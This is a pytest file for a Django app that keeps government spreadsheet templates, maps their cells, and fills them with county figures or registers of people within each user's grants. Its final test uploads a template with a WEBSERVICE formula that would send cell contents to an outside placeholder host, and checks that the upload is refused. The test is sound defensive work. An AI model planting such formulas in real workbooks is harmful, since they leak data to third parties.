"""A superior's form: kept with its template, mapped once, filled with the figures or the people that the asker may see."""

from __future__ import annotations

import io
from typing import Any

import openpyxl
import pytest
import xlsxwriter
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from place_examples import FIRST_DAY, SYSTEM
from web_examples import AID, PASSWORD, SmallCity

from linli.insight import acts, counting, filling
from linli.insight.models import Form, FormVersion, Template
from linli.kernel.errors import LinliError
from linli.kernel.viewer import Grant, Refused, Viewer
from linli.registers import acts as registers
from linli.trace.models import Fact
from linli.vault.models import Access
from linli.web.models import Download
from linli.web.tables import downloads

pytestmark = pytest.mark.django_db


def workbook(*rows: tuple[Any, ...], formula: str = "") -> bytes:
    stream = io.BytesIO()
    book = xlsxwriter.Workbook(stream)
    sheet = book.add_worksheet("表1")
    for number, row in enumerate(rows):
        sheet.write_row(number, 0, row)
    if formula:
        sheet.write_formula("C6", formula)
    book.close()
    return stream.getvalue()


STATISTICS = workbook(("县区统计表",), ("县", "找到", "不能确定"), ("盐湖区",), ("河津市",), ("绛县",), ("合计",), formula="=SUM(C3:C5)")
REGISTER = workbook(("花名册",), ("序号", "姓名", "出生日期", "身份证号", "备注"))


def keep(client: Client, kind: str, content: bytes, name: str = "月报") -> Form:
    answer = client.post("/city/forms/", {"name": name, "kind": kind, "area": "", "file": SimpleUploadedFile("模板.xlsx", content)})
    assert answer.status_code == 302, answer.content.decode()
    return Form.objects.latest("id")


def change(client: Client, form: Form, verb: str, **fields: Any) -> Any:
    number = FormVersion.objects.filter(form=form).latest("number").number
    return client.post(f"/city/forms/{form.uid}/", {"verb": verb, "version": number, **fields})


def made(client: Client, form: Form) -> Any:
    answer = client.post(f"/city/forms/{form.uid}/fill/")
    assert answer["Location"].startswith("/office/downloads/")
    download = Download.objects.latest("id")
    downloads.make(download.uid)
    return openpyxl.load_workbook(downloads.file_of(download)).active


def test_a_form_of_figures_is_filled_county_by_county(office: Client):
    counting.count()
    form = keep(office, "figures", STATISTICS)
    assert change(office, form, "figure", target="B", measure="found", programme=AID, county="each").status_code == 302
    assert change(office, form, "figure", target="C3", measure="undecided", programme=AID, county="140802").status_code == 302
    assert change(office, form, "figure", target="B6", measure="found", programme=AID, county="").status_code == 302
    sheet = made(office, form)
    assert [[cell.value for cell in row] for row in sheet["A3:C6"]] == [
        ["盐湖区", 1, 1], ["河津市", 1, None], ["绛县", 0, None], ["合计", 2, "=SUM(C3:C5)"],
    ]  # fmt: skip
    page = f"/office/downloads/{Download.objects.latest('id').uid}/"
    assert "填好 5 格" in office.get(page).content.decode()
    assert "5 格" in office.get("/office/downloads/").content.decode()
    assert Template.objects.count() == 1
    assert list(form.versions.order_by("number").values_list("number", flat=True)) == [1, 2, 3, 4]


@pytest.mark.parametrize(
    ("fields", "said"),
    [
        ({"target": "C6"}, "C6"),
        ({"target": "Z!A1"}, "Z!A1"),
        ({"target": "合计人数"}, "合计人数"),
        ({"target": "D", "county": "each"}, ""),
        ({"target": "7", "county": "each"}, "7"),
        ({"measure": "nothing"}, ""),
        ({"programme": ""}, ""),
    ],
)
def test_what_the_template_does_not_have_is_refused_by_name(office: Client, fields: dict[str, str], said: str):
    content = workbook(("没有县名",), formula="=1+1") if said == "" and fields.get("county") else STATISTICS
    form = keep(office, "figures", content)
    answer = change(office, form, "figure", **({"target": "B3", "measure": "found", "programme": AID, "county": ""} | fields))
    assert answer.status_code == 200
    assert said in answer.content.decode()
    assert form.versions.count() == 1


def test_two_people_change_a_form_at_once_and_the_second_is_told(office: Client):
    form = keep(office, "figures", STATISTICS)
    line = {"verb": "figure", "version": 1, "target": "B3", "measure": "found", "programme": AID, "county": ""}
    assert office.post(f"/city/forms/{form.uid}/", line).status_code == 302
    again = office.post(f"/city/forms/{form.uid}/", {**line, "target": "B4"})
    assert "刚被别人改过" in again.content.decode()
    assert form.versions.count() == 2


def test_a_line_is_taken_out_a_template_changed_and_a_form_ended(office: Client):
    form = keep(office, "figures", STATISTICS)
    change(office, form, "figure", target="B3", measure="found", programme=AID, county="")
    office.post(
        f"/city/forms/{form.uid}/renew/",
        {"version": 2, "file": SimpleUploadedFile("新.xlsx", workbook(("新表",), (), ("盐湖区", "数", "数")))},
    )
    assert form.versions.latest("number").mapping[0]["target"] == "B3"
    broken = workbook(*[("行",)] * 2, formula="=1")
    office.post(f"/city/forms/{form.uid}/remove/", {"version": 3, "place": "0"})
    assert form.versions.latest("number").mapping == []
    change(office, form, "figure", target="C6", measure="found", programme=AID, county="")
    said = office.post(f"/city/forms/{form.uid}/renew/", {"version": 5, "file": SimpleUploadedFile("坏.xlsx", broken)}, follow=True)
    assert "C6" in said.content.decode()
    assert form.versions.latest("number").number == 5
    office.post(f"/city/forms/{form.uid}/end/")
    assert office.get(f"/city/forms/{form.uid}/").status_code == 404


def test_a_register_has_a_row_for_each_person_and_every_number_is_a_recorded_reading(office: Client, small_city: SmallCity):
    form = keep(office, "people", REGISTER)
    assert change(office, form, "list", programme=AID, state="found", target="A3").status_code == 302
    version = form.versions.latest("number")
    assert version.mapping["columns"] == [
        {"target": "A", "field": "number"},
        {"target": "B", "field": "name"},
        {"target": "C", "field": "birth_date"},
        {"target": "D", "field": "identity"},
    ]
    before = Access.objects.count()
    sheet = made(office, form)
    rows = [[cell.value for cell in row] for row in sheet.iter_rows(min_row=3, max_col=4)]
    assert sorted(row[1] for row in rows) == ["测试乙", "测试甲"]
    assert all(len(row[3]) == 18 for row in rows)
    assert Access.objects.count() > before
    fact = Fact.objects.filter(type="insight.form_filled").latest("id")
    assert (fact.payload["people"], fact.payload["purpose"]) == (2, "screening.export")


def test_nobody_fills_a_register_or_a_figure_beyond_their_grants(office: Client, small_city: SmallCity):
    counting.count()
    register, figures = keep(office, "people", REGISTER), keep(office, "figures", STATISTICS)
    change(office, register, "list", programme=AID, state="found", target="A3")
    change(office, figures, "figure", target="B4", measure="found", programme=AID, county="140882")
    planner = Viewer("staff:x", (Grant("planner"),))
    with pytest.raises(Refused):
        filling.check(planner, register.versions.latest("number"))
    local = Viewer("staff:x", (Grant("planner", "140802"),))
    with pytest.raises(LinliError) as outside:
        filling.check(local, figures.versions.latest("number"))
    assert "B4" in outside.value.zh
    assert filling.forms(local) == []
    with pytest.raises(Refused):
        acts.add_form(planner, name="x", kind="figures", area="", file_name="x.xlsx", content=STATISTICS)


def test_a_planner_reads_forms_and_changes_none(office: Client):
    form = keep(office, "figures", STATISTICS)
    who = registers.add_staff(SYSTEM, login="plans", name="规划员", password=PASSWORD)
    registers.place_grant(SYSTEM, staff=who, role="planner", valid_from=FIRST_DAY)
    client = Client()
    client.post("/office/sign-in/", {"login": "plans", "password": PASSWORD})
    page = client.get(f"/city/forms/{form.uid}/").content.decode()
    assert "按现在的数填好" in page
    assert "停用这张报表" not in page
    assert client.post(f"/city/forms/{form.uid}/end/").status_code == 403
    assert change(client, form, "figure", target="B3", measure="found", programme=AID, county="").status_code == 200
    assert form.versions.count() == 1


def test_a_file_that_is_no_template_is_refused(office: Client):
    answer = office.post("/city/forms/", {"name": "x", "kind": "figures", "area": "", "file": SimpleUploadedFile("x.xlsx", b"PK nothing")})
    assert answer.status_code == 200
    assert "文件已损坏" in answer.content.decode()
    assert not Form.objects.exists()


def test_a_number_of_five_thousand_digits_is_none(office: Client):
    form = keep(office, "figures", STATISTICS)
    assert office.post(f"/city/forms/{form.uid}/remove/", {"version": 1, "place": "9" * 5000}).status_code == 404
    assert change(office, form, "figure", version="9" * 5000, target="B3", measure="day", programme="", county="").status_code == 200


def test_a_template_that_asks_the_network_is_refused_with_sheet_and_cell(office: Client):
    file = SimpleUploadedFile("外.xlsx", workbook(("名单",), formula='=_xlfn.WEBSERVICE("http://example.org/"&A1)'))
    answer = office.post("/city/forms/", {"name": "外", "kind": "figures", "area": "", "file": file})
    assert "表1!C6：公式会连到工作簿以外" in answer.content.decode()
    assert not Form.objects.exists()
